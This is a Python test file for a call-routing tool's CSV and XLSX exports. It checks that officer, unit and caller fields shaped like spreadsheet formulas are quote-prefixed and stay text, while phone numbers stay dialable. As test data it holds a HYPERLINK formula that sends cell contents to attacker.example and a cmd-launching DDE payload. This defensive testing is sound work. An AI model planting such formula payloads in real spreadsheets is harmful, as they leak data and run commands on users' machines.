"""Every CSV/XLSX export keeps hostile text as text: a name like ``=HYPERLINK(…)`` from a rota,
a peer unit's merged report or the call log never becomes a formula, while phone numbers stay
dialable as written."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from click.testing import CliRunner
from openpyxl import load_workbook

from callrouter.cli import cli
from callrouter.cli.calls import _emit
from callrouter.exports import csv_cell, is_risky
from callrouter.report.figures import Figures, OfficerRow, UnitInfo
from callrouter.report.render import render
from tests.unit.test_report_render import figures

pytestmark = pytest.mark.unit

ROOT = Path(__file__).resolve().parents[2]
LINK = '=HYPERLINK("http://attacker.example/?"&A1,"Bấm vào đây")'
CMD = "+cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    ("text", "risky"),
    [
        (LINK, True),
        (CMD, True),
        ("@SUM(A1:A9)", True),
        ("\t=1+1", True),
        ("\r=1+1", True),
        ("-2+3", True),
        ("+84905551234", False),  # a caller number as callrouter keeps it: stays dialable
        ("0912345678", False),
        ("Nguyễn Văn An", False),
        ("a=b", False),
        ("", False),
    ],
)
def test_a_cell_is_risky_only_when_a_spreadsheet_could_run_it(text: str, risky: bool) -> None:
    assert is_risky(text) is risky
    assert csv_cell(text) == ("'" + text if risky else text)


def test_csv_cell_leaves_numbers_and_none_alone() -> None:
    assert [csv_cell(v) for v in (-5, 1.5, None)] == [-5, 1.5, None]


def hostile_figures() -> Figures:
    """A merged report's figures: another unit's name and officers are whatever it sent."""
    f = figures()
    officer = f.officers[0].model_copy(update={"name": LINK, "unit": CMD})
    extra = OfficerRow(officer_id="o2", name="-1+1", answered=1, attempts=1)
    return f.model_copy(
        update={"unit": UnitInfo(name=CMD, governing_body="@UBND"), "officers": [officer, extra]}
    )


def test_an_officer_or_unit_named_like_a_formula_is_text_in_the_xlsx() -> None:
    wb = load_workbook(io.BytesIO(render(hostile_figures(), "xlsx")))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    names = {c.value: c for c in cells if isinstance(c.value, str)}
    for text in (LINK, "-1+1"):
        assert names[text].data_type == "s"
        assert names[text].quotePrefix  # stays text when a user edits the cell
    assert names["Chỉ tiêu"].quotePrefix is False  # plain text is left as it was
    assert names["@UBND — " + CMD].quotePrefix


def test_an_officer_named_like_a_formula_is_quoted_in_the_report_csv() -> None:
    rows = list(csv.reader(io.StringIO(render(hostile_figures(), "csv").decode())))
    values = [r[3] for r in rows if r[0] == "officers"]
    assert "'" + LINK in values
    assert LINK not in values


def test_the_calls_csv_quotes_free_text_and_keeps_phone_numbers(
    capsys: pytest.CaptureFixture[str],
) -> None:
    rows = [{"caller": "+84905551234", "answered_officer_name": LINK, "done_by": "@x"}]
    _emit(rows, ["caller", "answered_officer_name", "done_by"], "csv", [])
    parsed = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert parsed[1] == ["+84905551234", "'" + LINK, "'@x"]


def test_the_roster_csv_quotes_an_officer_named_like_a_formula(tmp_path: Path) -> None:
    text = (ROOT / "tests" / "fixtures" / "rota" / "valid.yaml").read_text(encoding="utf-8")
    hostile = tmp_path / "rota.yaml"
    hostile.write_text(text.replace("Nguyễn Văn An", "'=HYPERLINK(1)'"), encoding="utf-8")
    result = CliRunner().invoke(cli, ["rota", "roster", "--rota", str(hostile), "--csv"])
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO(result.output)))
    assert rows[1][:3] == ["1", "'=HYPERLINK(1)", "0912000101"]
